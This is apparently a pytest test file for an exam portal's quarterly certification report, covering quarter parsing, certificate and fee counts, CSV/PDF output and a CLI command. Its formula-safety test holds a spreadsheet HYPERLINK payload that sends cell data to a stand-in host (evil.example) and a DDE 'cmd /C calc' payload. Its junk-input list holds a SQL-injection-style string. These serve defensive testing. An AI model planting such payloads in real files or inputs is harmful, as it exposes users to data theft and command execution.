"""The quarterly ZRK report (art. 65 of the ZSK act): quarters in Warsaw time, the figures of a
certifying institution against hand-computed fixtures (originals, renewals, corrections, a
replacement after an appeal, duplicates, fees), the CSV, the PDF and ``flask reports zrk``."""
from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from flask_babel import force_locale
from pypdf import PdfReader

from examportal.certification import rules, services
from examportal.extensions import db
from examportal.models import EnrolmentStatus, Role, SessionStatus
from examportal.reports import zrk
from examportal.reports.zrk import Quarter, QuarterError
from tests.certtools import certification_world, make_certificate, validation_decision
from tests.factories import enrol, make_institution, make_session, make_user

Q3, Q4, Q1 = Quarter(2026, 3), Quarter(2026, 4), Quarter(2027, 1)


def utc(year: int, month: int, day: int, hour: int = 0, minute: int = 0) -> datetime:
    return datetime(year, month, day, hour, minute, tzinfo=UTC)


# --------------------------------------------------------------------------- quarters


@pytest.mark.parametrize("text", ["2026Q4", "2026q4", " 2026-Q4 ", "2026 q 4"])
def test_a_quarter_is_parsed_in_any_letter_case(app, text):
    assert Quarter.parse(text) == Q4
    assert str(Quarter.parse(text)) == "2026Q4"


@pytest.mark.parametrize("text", ["", "   ", "Q4", "2026", "2026Q5", "2026Q0", "20264", "2026Q44", "abc", "1999Q1",
                                  "3000Q1", "٢٠٢٦Q4", "2026Q４", "2026Q4; DROP TABLE", "99999999999999999999Q1"])
def test_junk_is_refused_with_a_message_saying_what_to_type(app, text):
    with force_locale("en"), pytest.raises(QuarterError, match=r"Give the quarter as the year and the quarter's number"):
        Quarter.parse(text)


def test_a_quarter_not_begun_is_refused_but_the_current_one_is_not(app):
    current = Quarter.containing(rules.today())
    assert zrk.parse_reportable(str(current)) == current
    with force_locale("en"), pytest.raises(QuarterError, match="has not begun yet"):
        zrk.parse_reportable(str(current.next()))
    assert zrk.refusal(Q4, on=date(2026, 9, 30)) is not None and zrk.refusal(Q4, on=date(2026, 10, 1)) is None


def test_first_and_last_days_and_the_edges_in_warsaw():
    assert (Q4.first_day, Q4.last_day) == (date(2026, 10, 1), date(2026, 12, 31))
    assert (Quarter(2028, 1).first_day, Quarter(2028, 1).last_day) == (date(2028, 1, 1), date(2028, 3, 31))
    assert Quarter(2026, 2).last_day == date(2026, 6, 30)
    # Summer time (UTC+2) at the start of Q4, winter time (UTC+1) at its end.
    assert Q4.starts_at == utc(2026, 9, 30, 22) == Q3.ends_at
    assert Q4.ends_at == utc(2026, 12, 31, 23) == Q1.starts_at
    assert Quarter(2027, 2).starts_at == utc(2027, 3, 31, 22)  # summer time again


def test_last_finished_quarter_and_neighbours():
    assert Quarter.last_finished(date(2026, 12, 3)) == Q3
    assert Quarter.last_finished(date(2027, 1, 1)) == Q4
    assert Quarter.last_finished(date(2026, 3, 31)) == Quarter(2025, 4)
    assert Q4.next() == Q1 and Q1.previous() == Q4 and Q3 < Q4 < Q1
    assert zrk.recent_quarters(3, on=date(2027, 2, 1)) == [Q1, Q4, Q3]
    with pytest.raises(ValueError):
        Quarter(2026, 5)


# --------------------------------------------------------------------------- the figures


def _session(institution, qualification, starts_at: datetime, fees: list, **kwargs):
    """A session starting at ``starts_at`` (UTC) with one enrolment per fee: (amount, reason), or
    None for a fee not recorded."""
    session = make_session(institution, qualification, starts_at=starts_at, **kwargs)
    enrolments = []
    for fee in fees:
        enrolment = enrol(session, make_user(Role.CANDIDATE))
        if fee is not None:
            enrolment.fee_pln, enrolment.fee_reason = Decimal(fee[0]), fee[1]
        enrolments.append(enrolment)
    db.session.commit()
    return session, enrolments


def _dated(row, **days):
    for name, day in days.items():
        setattr(row, name, day)
    db.session.commit()
    return row


@pytest.fixture
def world(app, qualification, monkeypatch):
    """VCC (a certifying institution) with its validating institution, and another certifying
    institution; the documents and fees around 2026Q4 (see each line for the quarter it falls in).

    The certificates' own PDFs are not what is tested here: a stand-in keeps a dozen renderings
    out of every test's set-up."""
    monkeypatch.setattr(services.pdf, "render_certificate", lambda content, duplicate_issued_on=None: b"%PDF-1.4 stand-in")
    w = certification_world(qualification)
    ic, child, staff, session = w["ic"], w["child"], w["staff"], w["session"]
    session.starts_at = utc(2026, 7, 15, 8)  # Q3: its four enrolments have no fee recorded
    fourth = enrol(session, make_user(Role.CANDIDATE, first_name="Dorota", last_name="Czwarta"))
    validation_decision(fourth, decided_by=w["chair"])
    c1, c2, c3, c4 = (make_certificate(e, staff) for e in [*w["enrolments"], fourth])
    _dated(c1, issued_on=date(2026, 10, 1))  # Q4: original
    _dated(c2, issued_on=date(2026, 12, 31))  # Q4: original (the last day)
    _dated(c3, issued_on=date(2027, 1, 1))  # Q1: original (the first day of the next quarter)
    _dated(c4, issued_on=date(2026, 9, 30))  # Q3: original
    _dated(services.issue_duplicate(staff, c1, "Oryginał zgubiony"), issued_on=date(2026, 10, 15))  # Q4: duplicate
    _dated(services.issue_duplicate(staff, c2, "Oryginał zniszczony"), issued_on=date(2027, 1, 1))  # Q1: duplicate
    corrected = services.correct(staff, c1, first_name="Łucja", last_name="Żółkiewska-Nowak",
                                 birth_date=c1.holder_birth_date, reason="Zmiana nazwiska po ślubie")
    _dated(corrected, issued_on=date(2026, 11, 15))  # Q4: reissued (a correction)
    renewed = services.renew_certificate(staff, c4, valid_until=rules.add_years(c4.valid_until, 5))
    db.session.commit()
    _dated(renewed, issued_on=date(2026, 11, 20))  # Q4: renewal
    services.change_status(staff, c2, "revoke", "Podrobione zaświadczenie")
    replacement = services.issue_replacement(staff, c2, appeal_id=4242)
    db.session.commit()
    # Printed with c2's date of issue (31 Dec, Q4) but made 1 Jan 00:30 in Warsaw: Q1, a reissue.
    _dated(replacement, created_at=utc(2026, 12, 31, 23, 30))
    assert replacement.issued_on == date(2026, 12, 31)

    # Fees. 30 Sep 23:30 Warsaw (21:30 UTC): Q3.
    _session(child, qualification, utc(2026, 9, 30, 21, 30), [("500", None)])
    # 1 Oct 00:30 Warsaw (30 Sep 22:30 UTC): Q4 — 300 zł, free under art. 122a, a fee not recorded.
    _session(ic, qualification, utc(2026, 9, 30, 22, 30), [("300", None), ("0", rules.FREE_OF_CHARGE_122A), None])
    # Q4 at the validating institution: 450 zł, free for another reason; a withdrawn candidate's fee is left out.
    _, enrolments = _session(child, qualification, utc(2026, 11, 10, 9), [("450", None), ("0", "Stypendium fundacji"),
                                                                          ("999", None)])
    enrolments[2].status = EnrolmentStatus.WITHDRAWN
    # Q4 but cancelled: left out.
    _session(child, qualification, utc(2026, 11, 20, 9), [("700", None)], status=SessionStatus.CANCELLED)
    # 31 Dec 23:59 Warsaw (22:59 UTC): Q4; 1 Jan 00:00 Warsaw (31 Dec 23:00 UTC): Q1.
    _session(child, qualification, utc(2026, 12, 31, 22, 59), [("250", None)])
    _session(child, qualification, utc(2026, 12, 31, 23), [("800", None)])

    # Another certifying institution: a certificate, a duplicate and fees in Q4, none of them VCC's.
    other = make_institution("Fundacja Inna", qualifications=[qualification], short_name="INNA")
    other_staff = make_user((Role.STAFF, other))
    _other_session, (other_enrolment,) = _session(other, qualification, utc(2026, 11, 5, 9), [("1000", None)])
    validation_decision(other_enrolment)
    other_certificate = _dated(make_certificate(other_enrolment, other_staff), issued_on=date(2026, 11, 6))
    _dated(services.issue_duplicate(other_staff, other_certificate, "Zgubiony"), issued_on=date(2026, 11, 7))
    db.session.commit()
    return {**w, "other": other, "other_staff": other_staff, "qualification": qualification,
            "certificates": (c1, c2, c3, c4), "corrected": corrected, "renewed": renewed, "replacement": replacement}


def _only_row(report):
    assert [row.qualification.code for row in report.rows] == ["13881"]
    return report.rows[0]


def test_the_fourth_quarter_against_hand_computed_figures(world):
    row = _only_row(zrk.zrk_report(world["ic"], Q4))
    # c1 (1 Oct) and c2 (31 Dec) are originals; c4's renewal (20 Nov) is a new document.
    assert (row.originals, row.renewals, row.documents_issued) == (2, 1, 3)
    # c1's correction (15 Nov) is reissued, not new; the replacement made on 1 Jan (Warsaw) is Q1's.
    assert row.reissued == 1
    assert row.duplicates == 1  # c1's (15 Oct); c2's is dated 1 Jan
    fees = row.fees
    # 300 + 0 (art. 122a) + 450 + 0 (other reason) + 250; one not recorded; withdrawn and cancelled left out.
    assert (fees.recorded, fees.revenue, fees.paid) == (5, Decimal("1000.00"), 3)
    assert fees.average == Decimal("333.33")
    assert (fees.free_of_charge, fees.free_122a, fees.not_recorded) == (2, 1, 1)


def test_the_neighbouring_quarters(world):
    q3 = _only_row(zrk.zrk_report(world["ic"], Q3))
    assert (q3.originals, q3.renewals, q3.reissued, q3.duplicates) == (1, 0, 0, 0)  # c4 on 30 Sep
    # The session of 15 Jul (four fees not recorded) and the one of 30 Sep 23:30 Warsaw (500 zł).
    assert (q3.fees.recorded, q3.fees.revenue, q3.fees.average, q3.fees.not_recorded) == (1, Decimal("500.00"),
                                                                                        Decimal("500.00"), 4)
    q1 = _only_row(zrk.zrk_report(world["ic"], Q1))
    # c3 on 1 Jan; the replacement after the appeal (made 1 Jan 00:30 Warsaw); c2's duplicate of 1 Jan.
    assert (q1.originals, q1.renewals, q1.reissued, q1.duplicates) == (1, 0, 1, 1)
    assert (q1.fees.revenue, q1.fees.paid, q1.fees.average) == (Decimal("800.00"), 1, Decimal("800.00"))


def test_each_kind_of_document_is_told_apart(world):
    c1, c2, _c3, _c4 = world["certificates"]
    kinds = {c.id: zrk.document_kind(c) for c in (c1, c2, world["corrected"], world["renewed"], world["replacement"])}
    assert kinds == {c1.id: zrk.DocumentKind.ORIGINAL, c2.id: zrk.DocumentKind.ORIGINAL,
                     world["corrected"].id: zrk.DocumentKind.CORRECTION, world["renewed"].id: zrk.DocumentKind.RENEWAL,
                     world["replacement"].id: zrk.DocumentKind.AFTER_APPEAL}
    assert zrk.report_day(world["replacement"]) == date(2027, 1, 1)
    assert zrk.report_day(world["corrected"]) == date(2026, 11, 15)


def test_another_institutions_data_is_never_counted(world):
    other = _only_row(zrk.zrk_report(world["other"], Q4))
    assert (other.originals, other.duplicates, other.fees.revenue, other.fees.recorded) == (1, 1, Decimal("1000.00"), 1)
    # ...and none of it is VCC's: 300 + 450 + 250 zł and two originals, as hand-computed above.
    vcc = _only_row(zrk.zrk_report(world["ic"], Q4))
    assert (vcc.originals, vcc.duplicates, vcc.fees.recorded, vcc.fees.revenue) == (2, 1, 5, Decimal("1000.00"))
    assert zrk.institution_ids(world["ic"]) == {world["ic"].id, world["child"].id}


def test_a_quarter_without_anything_still_lists_the_authorised_qualifications(world):
    row = _only_row(zrk.zrk_report(world["ic"], Quarter(2025, 1)))
    assert (row.documents_issued, row.reissued, row.duplicates) == (0, 0, 0)
    assert (row.fees.recorded, row.fees.revenue, row.fees.average, row.fees.not_recorded) == (0, Decimal("0.00"), None, 0)


def test_a_validating_institution_has_no_report_of_its_own(world):
    with pytest.raises(ValueError):
        zrk.zrk_report(world["child"], Q4)


def test_the_fee_helpers_used_by_the_fees_page_keep_their_figures(world):
    """The fee list of the fees page (all sessions, cancelled ones too) and the report share fee_totals."""
    everything = services.fee_totals(db.session.scalars(services.fee_rows({world["ic"].id, world["child"].id},
                                                                          Q4.first_day, Q4.last_day)))
    assert (everything.recorded, everything.revenue) == (6, Decimal("1700.00"))  # the cancelled session's 700 zł too


# --------------------------------------------------------------------------- what it prints


def _csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_the_csv(world, app):
    with app.test_request_context(), force_locale("en"):
        report = zrk.zrk_report(world["ic"], Q4, now=utc(2027, 1, 5, 10))
        rows = _csv_rows(zrk.to_csv(report))
    header, values = rows[0], rows[1]
    figures = dict(zip(header, values, strict=True))
    assert figures["Qualification code"] == "13881"
    assert figures["Documents issued (originals + renewals)"] == "3"
    assert figures["Original certificates"] == "2" and figures["Renewed certificates"] == "1"
    assert figures["Reissued: corrected or replaced after an appeal (not counted)"] == "1"
    assert figures["Duplicates issued (not counted)"] == "1"
    assert (figures["Average fee (PLN)"], figures["Fee revenue (PLN)"]) == ("333.33", "1000.00")
    assert (figures["Validated free of charge"], figures["of which under art. 122a"], figures["Fee not recorded"]) == \
        ("2", "1", "1")
    tail = [row for row in rows[2:] if row]
    assert tail[0] == ["Certifying institution", "Fundacja VCC"]
    assert tail[1][0] == "Quarter" and tail[1][1].startswith("2026Q4")
    assert tail[2][0] == "Generated" and "2027" in tail[2][1]
    text = " ".join(row[0] for row in tail[3:])
    assert "Duplicates are NOT counted" in text and "Renewed certificates are counted" in text
    assert "not over yet" not in text  # generated after the quarter


def test_the_csv_of_a_quarter_without_paid_validations_shows_a_dash(world, app):
    with app.test_request_context(), force_locale("en"):
        rows = _csv_rows(zrk.to_csv(zrk.zrk_report(world["ic"], Quarter(2025, 1))))
    assert dict(zip(rows[0], rows[1], strict=True))["Average fee (PLN)"] == "\u2014"


def test_the_csv_is_formula_safe(world, app):
    world["ic"].name = '=HYPERLINK("http://evil.example/?"&A1;"Kliknij")'
    world["qualification"].name_en = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.commit()
    with app.test_request_context(), force_locale("en"):
        rows = _csv_rows(zrk.to_csv(zrk.zrk_report(world["ic"], Q4)))
    assert rows[1][1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert ["Certifying institution", "'" + world["ic"].name] in rows
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows for cell in row)


def test_a_quarter_not_over_says_so(world, app):
    with app.test_request_context(), force_locale("en"):
        report = zrk.zrk_report(world["ic"], Q4, now=utc(2026, 12, 3, 12))
        assert not report.complete
        assert zrk.notes(report)[0] == "The quarter 2026Q4 is not over yet: the figures may still change."


def _pdf_text(data: bytes) -> str:
    assert data.startswith(b"%PDF")
    return " ".join(" ".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages).split())


def test_the_pdf(world, app):
    with app.test_request_context(), force_locale("en"):
        report = zrk.zrk_report(world["ic"], Q4, now=utc(2027, 1, 5, 10))
        text = _pdf_text(zrk.render_zrk_pdf(report))
    assert "Fundacja VCC" in text and "2026Q4" in text and "Jan 5, 2027" in text
    assert "13881" in text and "333.33" in text and "1,000.00" in text
    assert "How the figures are counted" in text
    assert "Duplicates are NOT counted as newly issued documents" in text
    assert "Fee not recorded" in text


def test_file_names_are_plain_ascii(world):
    world["ic"].short_name = "Warto Szkolić"
    report = zrk.zrk_report(world["ic"], Q4)
    assert zrk.file_name(report, "csv") == "zrk-Warto-Szkolic-2026Q4.csv"


# --------------------------------------------------------------------------- flask reports zrk


def invoke(runner, *args: str):
    return runner.invoke(args=["reports", "zrk", *args])


def refused(result, *words: str) -> str:
    """Exit code 1 and a one-line message (no traceback) naming ``words``."""
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output and len(result.output.strip().splitlines()) == 1, result.output
    for word in words:
        assert word in result.output
    return result.output


def test_the_command_prints_the_table_and_writes_the_files(runner, world, tmp_path):
    csv_path, pdf_path = tmp_path / "zrk.csv", tmp_path / "zrk.pdf"
    result = invoke(runner, "--quarter", "2026q4", "--institution", "VCC", "--lang", "en", "--csv", str(csv_path),
                    "--pdf", str(pdf_path))
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0] == "Quarterly report to the ZRK: Fundacja VCC (VCC)"
    figures = {line.rsplit(None, 1)[0].strip(): line.rsplit(None, 1)[1] for line in lines if line.startswith((
        "Documents issued", "Original", "Renewed", "Reissued", "Duplicates issued", "Average", "Fee revenue",
        "Validated free", "of which", "Fee not recorded", "Paid"))}
    assert figures == {"Documents issued (originals + renewals)": "3", "Original certificates": "2",
                       "Renewed certificates": "1", "Reissued: corrected or replaced after an appeal (not counted)": "1",
                       "Duplicates issued (not counted)": "1", "Paid validations": "3", "Average fee (PLN)": "333.33",
                       "Fee revenue (PLN)": "1000.00", "Validated free of charge": "2", "of which under art. 122a": "1",
                       "Fee not recorded": "1"}
    assert "How the figures are counted:" in result.output
    assert f"written: {csv_path}" in result.output and f"written: {pdf_path}" in result.output
    assert _csv_rows(csv_path.read_text(encoding="utf-8"))[1][0] == "13881"
    assert "Fundacja VCC" in _pdf_text(pdf_path.read_bytes())


def test_the_command_refuses_in_one_line(runner, world, tmp_path):
    refused(invoke(runner, "--quarter", "2026Q5", "--institution", "VCC", "--lang", "en"), "Give the quarter")
    later = Quarter.containing(rules.today()).next()
    refused(invoke(runner, "--quarter", str(later), "--institution", "VCC", "--lang", "en"), "has not begun yet")
    refused(invoke(runner, "--quarter", "2026Q4", "--institution", "NOPE"), "'NOPE'", "INNA", "VCC")
    refused(invoke(runner, "--quarter", "2026Q4", "--institution", "VCC-O"), "no certifying institution")  # validating
    refused(invoke(runner, "--quarter", "2026Q4"), "--institution", "INNA", "VCC")  # two certifying institutions
    refused(invoke(runner, "--quarter", "2026Q4", "--institution", "VCC", "--csv", str(tmp_path / "no" / "such.csv")),
            "cannot write")
    assert invoke(runner, "--help").exit_code == 0
